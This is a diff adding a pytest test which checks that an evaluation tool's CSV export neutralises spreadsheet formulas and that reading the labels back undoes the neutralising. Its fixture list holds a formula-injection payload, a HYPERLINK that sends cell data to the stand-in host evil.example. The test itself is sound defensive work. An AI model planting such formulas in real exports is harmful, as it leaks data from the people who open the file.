@@ -528,3 +528,47 @@ def test_a_sample_of_a_runs_verdicts_as_traces_and_a_csv_changes_nothing_of_the_
     same = sync("summhay", [spec], tmp_path, producer="summhay-aggregate")
     assert (same.created, same.skipped) == (0, 1)
     assert client.get_run(run.info.run_id).data.metrics == {"coverage": 50.0}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2, "see the source")',
+    "+1+2",
+    "-3+4",
+    "@SUM(1, 2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+
+
+def test_the_csv_neutralises_formulas_and_reading_it_back_undoes_it(project: Path) -> None:
+    """Issue 44, point 7. Before: a model answer starting `=HYPERLINK(...)` was written as is
+    into the CSV the README invites people to open in a spreadsheet (which runs it). Every cell
+    starting with = + - @, a tab or a CR gets a leading ', and reading the labels back takes it
+    off (a label of a scale like +1 / 0 / -1 round-trips, as typed or as saved)."""
+    sample = _sample(project)
+    units = [
+        u.model_copy(update={"inputs": {"insight": FORMULAS[k % len(FORMULAS)], "summary": "s"}})
+        for k, u in enumerate(sample.units)
+    ]
+    scale = sample.scale.model_copy(
+        update={"labels": ("+1", "0", "-1"), "values": {"+1": 1.0, "0": 0.5, "-1": 0.0}}
+    )
+    sample = sample.model_copy(update={"units": units, "scale": scale})
+    path = project / "audits/formulas.csv"
+    write_csv(path, sample)
+    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    insights = [r[rows[0].index("insight")] for r in rows[1:]]
+    assert insights == ["'" + FORMULAS[k % len(FORMULAS)] for k in range(len(units))]
+    assert rows[1][rows[0].index("scale")] == "'+1 | 0 | -1"
+    # filled in: "-1" as typed (a spreadsheet may save it as a number), "'+1" as saved back
+    header, body = rows[0], rows[1:]
+    body[0][header.index("label")] = "'+1"
+    body[1][header.index("label")] = "-1"
+    body[2][header.index("label")] = "'-1"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([header, *body])
+    got = csv_labels(path, sample)
+    assert {u: x.label for u, x in got.items()} == {"u01": "+1", "u02": "-1", "u03": "-1"}
